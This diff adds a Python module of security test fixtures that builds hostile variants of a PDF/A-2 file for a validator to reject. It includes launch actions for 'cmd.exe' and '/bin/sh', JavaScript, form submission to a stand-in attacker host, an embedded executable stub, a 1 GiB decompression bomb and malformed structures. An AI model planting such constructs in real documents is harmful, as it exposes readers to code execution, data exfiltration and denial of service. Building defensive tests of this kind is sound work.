@@ -1,0 +1,137 @@
+"""Hostile variants of a valid one-page PDF/A-2 document (SECURITY.md §5 and §7, PDF)."""
+
+from __future__ import annotations
+
+import io
+import re
+import zlib
+
+import pikepdf
+from pikepdf import Array, Dictionary, Name, String
+
+
+def _edit(base: bytes, fn) -> bytes:
+    with pikepdf.open(io.BytesIO(base)) as pdf:
+        fn(pdf)
+        out = io.BytesIO()
+        pdf.save(out, static_id=True)
+        return out.getvalue()
+
+
+def _action(kind: str, **kw) -> Dictionary:
+    return Dictionary(Type=Name.Action, S=Name("/" + kind), **kw)
+
+
+def _open_action(action):
+    def fn(pdf):
+        pdf.Root.OpenAction = pdf.make_indirect(action)
+    return fn
+
+
+def _page_aa(pdf):
+    pdf.pages[0].obj.AA = Dictionary(O=_action("Launch", F=String("cmd.exe")))
+
+
+def _names_js(pdf):
+    js = pdf.make_indirect(_action("JavaScript", JS=String("app.alert(1)")))
+    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), js])))
+
+
+def _annot(subtype: str, **kw):
+    def fn(pdf):
+        annot = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name("/" + subtype), Rect=Array([0, 0, 595, 842]),
+                                             F=4, **kw))
+        pdf.pages[0].obj.Annots = Array([annot])
+    return fn
+
+
+def _embedded(pdf):
+    fs = pikepdf.AttachedFileSpec(pdf, b"MZ evil", filename="evil.exe")
+    pdf.attachments["evil.exe"] = fs
+
+
+def _xfa(pdf):
+    xfa = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
+    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=xfa)
+
+
+def _incremental(base: bytes) -> bytes:
+    out = io.BytesIO()
+    with pikepdf.open(io.BytesIO(base)) as pdf:
+        pdf.Root.Lang = String("en")
+        pdf.save(out, static_id=True)
+    # A real incremental update: the new body appended after %%EOF of the original.
+    m = re.search(rb"startxref\s+(\d+)", base[::-1][:0] or base[-64:])
+    prev = int(m.group(1)) if m else 0
+    n = _max_obj(base) + 1
+    body = (f"{n} 0 obj\n<< /Type /Annot /Subtype /Text /Rect [0 0 10 10] /Contents (added later) >>\nendobj\n").encode()
+    start = len(base)
+    xref_pos = start + len(body)
+    xref = f"xref\n{n} 1\n{start:010d} 00000 n \ntrailer\n<< /Size {n + 1} /Prev {prev} /Root 1 0 R >>\nstartxref\n{xref_pos}\n%%EOF\n"
+    return base + body + xref.encode()
+
+
+def _max_obj(pdf: bytes) -> int:
+    return max(int(x) for x in re.findall(rb"(\d+) 0 obj", pdf))
+
+
+def _flate_bomb(pdf):
+    comp = zlib.compressobj(9)
+    data = b"".join(comp.compress(b"\0" * (1 << 20)) for _ in range(1024)) + comp.flush()
+    s = pikepdf.Stream(pdf, data)
+    s.Filter = Name.FlateDecode
+    pdf.pages[0].obj.Contents = Array([pdf.pages[0].obj.Contents, pdf.make_indirect(s)])
+
+
+def _encrypt(base: bytes) -> bytes:
+    out = io.BytesIO()
+    with pikepdf.open(io.BytesIO(base)) as pdf:
+        pdf.save(out, encryption=pikepdf.Encryption(owner="o", user="", R=6))
+    return out.getvalue()
+
+
+def _no_xmp(pdf):
+    del pdf.Root.Metadata
+
+
+def _cyclic_pages(pdf):
+    pages = pdf.Root.Pages
+    pages.Kids.append(pages)
+    pages.Count = 2
+
+
+def _deep_arrays(base: bytes, depth: int = 100_000) -> bytes:
+    n = _max_obj(base) + 1
+    obj = f"{n} 0 obj\n".encode() + b"[" * depth + b"]" * depth + b"\nendobj\n"
+    i = base.rindex(b"xref")
+    # put the object inline before the xref; the xref offsets are now wrong, which strict open refuses too
+    return base[:i] + obj + base[i:]
+
+
+def variants(base: bytes):
+    """(id, expected code, bytes) for every hostile variant."""
+    yield "openaction-javascript", "D004", _edit(base, _open_action(_action("JavaScript", JS=String("app.alert(1)"))))
+    yield "names-javascript", "D004", _edit(base, _names_js)
+    yield "page-aa-launch", "D004", _edit(base, _page_aa)
+    yield "openaction-launch", "D004", _edit(base, _open_action(_action("Launch", F=String("/bin/sh"))))
+    yield "link-uri", "D004", _edit(base, _annot("Link", A=_action("URI", URI=String("http://attacker.invalid/"))))
+    yield "submitform", "D004", _edit(base, _open_action(_action("SubmitForm", F=String("http://attacker.invalid/"))))
+    yield "gotor", "D004", _edit(base, _open_action(_action("GoToR", F=String("other.pdf"), D=Array([0, Name.Fit]))))
+    yield "gotoe", "D004", _edit(base, _open_action(_action("GoToE", D=Array([0, Name.Fit]))))
+    yield "richmedia", "D004", _edit(base, _annot("RichMedia"))
+    yield "xfa", "D004", _edit(base, _xfa)
+    yield "embedded-file", "D004", _edit(base, _embedded)
+    yield "junk-before-header", "D004", b"<html>junk</html>\n" + base
+    yield "zip-appended", "D004", base + b"PK\x03\x04" + b"\0" * 26 + b"PK\x05\x06" + b"\0" * 18
+    m = re.search(rb"startxref\s+(\d+)", base[-64:])
+    yield "bad-startxref", "D004", base[:-64] + base[-64:].replace(m.group(1), str(int(m.group(1)) + 7).encode())
+    i = base.rindex(b"\nxref\n") + 6
+    yield "garbled-xref", "D004", base[:i] + base[i:i + 80].replace(b"0", b"x") + base[i + 80:]
+    yield "truncated", "D004", base[: len(base) * 2 // 3]
+    yield "incremental-update", "D004", _incremental(base)
+    yield "deep-nesting", "D004", _deep_arrays(base)
+    yield "cyclic-page-tree", "D001", _edit(base, _cyclic_pages)
+    yield "flate-bomb-1gib", "D001", _edit(base, _flate_bomb)
+    yield "encrypted", "D003", _encrypt(base)
+    yield "not-a-pdf", "D001", b"GIF89a not a pdf at all"
+    yield "no-pdfa-claim", "D002", _edit(base, _no_xmp)
